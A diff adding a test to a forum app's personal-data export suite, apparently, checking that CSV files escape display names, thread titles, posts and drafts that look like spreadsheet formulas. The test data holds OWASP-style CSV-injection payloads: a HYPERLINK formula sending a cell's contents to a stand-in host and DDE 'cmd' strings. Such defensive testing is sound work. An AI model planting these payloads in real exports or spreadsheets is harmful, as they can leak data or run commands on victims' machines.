@@ -1,4 +1,5 @@
 import { randomUUID } from "node:crypto";
+import { parse } from "csv-parse/sync";
 import { unzipSync } from "fflate";
 import type TestAgent from "supertest/lib/agent.js";
 import type { GroupDetail } from "@forum/shared";
@@ -7,6 +8,7 @@ import { ConsentRecord } from "../../server/src/models/ConsentRecord.js";
 import { Event } from "../../server/src/models/Event.js";
 import { User } from "../../server/src/models/User.js";
 import { csrfAgent, DEMO, signedInAgent } from "../support/http.js";
+import { createNewMember } from "../support/people.js";
 import { startTestServer, type TestServer } from "../support/testServer.js";
 
 const PIOTR = "piotr.mazur@demo.forum-jst.pl";
@@ -208,6 +210,41 @@ describe("the personal data archive", () => {
     const missing = await admin.get("/api/admin/users/0123456789abcdef01234567/export");
     expect(missing.status).toBe(404);
     expect(missing.body.error.message).toBe("Nie ma takiego użytkownika.");
+  });
+});
+
+describe("the archive's CSV files", () => {
+  // OWASP's CSV-injection examples: text a spreadsheet would run as a formula.
+  const NAME = '=HYPERLINK("http://zly.example/?"&B2;"Moje dane")';
+  const TITLE = "@SUM(1+1)*cmd|' /C calc'!A0";
+  const BODY = "=cmd|' /C calc'!A0";
+  const DRAFT = "-2+3+cmd|' /C calc'!A0";
+
+  it("hold a display name, titles, posts and drafts that look like formulas as text", async () => {
+    await createNewMember("formula.export@example.pl", NAME);
+    const agent = await signedInAgent(server.url, "formula.export@example.pl");
+    const detail = (await agent.get("/api/groups/gwd-malopolska")).body as GroupDetail;
+    const discussion = detail.categories.find((category) => category.slug === "dyskusje")!;
+    const started = await agent
+      .post(`/api/categories/${discussion.id}/threads`)
+      .send({ title: TITLE, body: BODY, clientId: randomUUID() });
+    expect(started.status).toBe(201);
+    const draft = await agent
+      .put(`/api/drafts/thread/${started.body.thread.id as string}`)
+      .send({ body: DRAFT, clientId: randomUUID() });
+    expect(draft.status).toBeLessThan(300);
+
+    const archive = await archiveOf(agent);
+    const table = (name: string) =>
+      parse(text(archive, name), { bom: true, delimiter: ";", columns: true }) as Record<string, string>[];
+    expect(table("profile.csv")).toContainEqual({ Pole: "Imię i nazwisko", Wartość: `'${NAME}` });
+    expect(table("threads.csv").map((row) => row["Tytuł"])).toEqual([`'${TITLE}`]);
+    expect(table("posts.csv").map((row) => [row["Wątek"], row["Treść"]])).toEqual([[`'${TITLE}`, `'${BODY}`]]);
+    expect(table("drafts.csv").map((row) => row["Treść"])).toEqual([`'${DRAFT}`]);
+    for (const name of Object.keys(archive).filter((file) => file.endsWith(".csv")))
+      for (const row of table(name))
+        for (const cell of Object.values(row))
+          expect([name, cell, /^[=+\-@\t\r]/.test(cell)]).toEqual([name, cell, false]);
   });
 });
 
